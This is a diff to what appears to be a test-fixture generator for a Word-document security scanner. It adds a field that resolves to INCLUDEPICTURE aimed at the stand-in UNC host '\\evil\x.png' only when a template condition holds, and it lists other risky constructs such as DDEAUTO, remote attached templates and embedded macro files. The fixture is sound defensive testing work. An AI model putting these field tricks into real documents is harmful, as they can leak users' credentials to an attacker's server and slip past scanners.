@@ -318,6 +318,18 @@ def _tiny_png() -> bytes:
     )
 
 
+def field_named_by_tag(condition: str) -> Callable[[Parts], None]:
+    """A field whose name a tag writes: INCLUDEPICTURE when `condition` holds, else PAGE."""
+
+    def edit(parts: Parts) -> None:
+        instruction = (
+            f'{{% if {condition} %}}INCLUDEPICTURE{{% else %}}PAGE{{% endif %}} "\\\\evil\\x.png"'
+        )
+        _after_title(parts, f"<w:p>{_field_runs(instruction, '1')}</w:p>")
+
+    return edit
+
+
 TEMPLATES: dict[str, Callable[[Parts], None]] = {
     "attached-template": attached_template,
     "attached-template-unc": lambda p: attached_template(p, "file://///fileserver/share/x.dotm"),
@@ -333,6 +345,7 @@ TEMPLATES: dict[str, Callable[[Parts], None]] = {
     "includetext": include_text_simple,
     "ddeauto-footer": ddeauto_in_footer,
     "harmless-fields": harmless_fields,
+    "field-named-by-tag": field_named_by_tag('title == "Hemmelig"'),
     "embedded-ole": _embedded("embeddings/oleObject1.bin", "oleObject", "Package"),
     "embedded-xlsm": _embedded("embeddings/Ark1.xlsm", "package", "Excel.SheetMacroEnabled.12"),
     "embedded-xlsx": _embedded("embeddings/Ark1.xlsx", "package", "Excel.Sheet.12"),
